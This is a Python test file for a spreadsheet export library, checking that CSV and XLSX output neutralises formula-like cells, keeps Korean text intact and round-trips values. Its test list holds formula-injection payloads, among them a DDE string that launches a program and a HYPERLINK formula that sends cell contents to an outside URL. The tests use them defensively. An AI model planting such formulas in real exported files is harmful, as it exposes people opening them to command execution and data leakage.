"""Files that a spreadsheet opens: formulas are dead, Hangul is right, numbers are numbers, and all of it comes back."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from labs.tables.cells import inert, plain
from labs.tables.decode import decode
from labs.tables.split import split
from labs.tables.write import csv_file, xlsx_file

FORMULAS = [
    "=1+1",
    "@SUM(1)",
    "+82-10",
    "\t=2",
    "\r=3",
    "\n=3",
    '=HYPERLINK("http://example.com/?"&A1,"grade")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1",
    " =1",
]
HARMLESS = ["김뷁", "O'Brien, Ada", 'Kim "JJ"', "first\n=2", "20231234", "'quoted'", "", "Ω"]
CHANGED_OTHERWISE = ["00123", "1234567890123456", "1e5", "3-1", "2026-11-30", "12:30"]


def cells_of(data: bytes) -> list[list[str]]:
    """As a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(data.removeprefix(codecs.BOM_UTF8).decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS + CHANGED_OTHERWISE)
def test_no_cell_of_a_csv_begins_like_a_formula_or_another_value(text: str) -> None:
    ((cell,),) = cells_of(csv_file([[text]]))
    assert cell == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    ((_, cell),) = cells_of(csv_file([["x", text]]))
    assert cell == text


def test_a_csv_says_that_it_is_utf_8_and_numbers_are_numbers() -> None:
    data = csv_file([["이름", -0.5, 12, None]])
    assert data == codecs.BOM_UTF8 + "이름,-0.5,12,\r\n".encode()


@pytest.mark.parametrize("text", FORMULAS + HARMLESS + CHANGED_OTHERWISE + ["'=x", "''=x", "'00123"])
def test_a_csv_read_again_gives_what_was_written(text: str) -> None:
    (row,) = split(decode(csv_file([["x", text, "y"]])).text)
    assert row.cells == ("x", text, "y")


@given(st.text())
def test_making_inert_is_undone_for_any_text(text: str) -> None:
    assert plain(inert(text)) == text


def test_a_workbook_holds_texts_and_numbers_and_no_formula() -> None:
    texts = [*FORMULAS, *HARMLESS, *CHANGED_OTHERWISE, "#N/A", "a\x00b"]
    book = load_workbook(
        io.BytesIO(xlsx_file([["이름", "수"], *([text, -0.5] for text in texts)], "성적: [1]"))
    )
    sheet = book.active
    assert sheet is not None and sheet.title == "성적   1"
    assert sheet.freeze_panes == "A2"
    for (cell, number), text in zip(sheet.iter_rows(min_row=2), texts, strict=True):
        assert (cell.value or "") == text.replace("\r", "\n").replace("\x00", "")
        assert cell.data_type in {"s", "inlineStr"} or not text
        assert cell.quotePrefix is (inert(text) != text)
        assert (number.value, number.data_type) == (-0.5, "n")
